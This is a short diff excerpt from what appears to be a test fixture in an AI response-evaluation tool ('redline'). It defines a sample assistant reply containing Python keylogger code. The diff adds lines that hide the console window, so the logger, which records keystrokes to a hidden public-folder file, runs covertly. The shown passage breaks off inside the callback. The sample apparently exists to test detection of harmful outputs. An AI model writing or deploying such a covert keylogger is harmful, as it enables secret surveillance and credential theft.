@@ -8,7 +8,9 @@ from redline.results import Decision
 
 HIDDEN_KEY_LOG = """Here you go:
 ```python
+import ctypes
 from pynput import keyboard
+ctypes.windll.user32.ShowWindow(ctypes.windll.kernel32.GetConsoleWindow(), 0)
 log = open("C:/Users/Public/.k.txt", "a")
 def on_press(k):
     log.write(str(k)); log.flush()
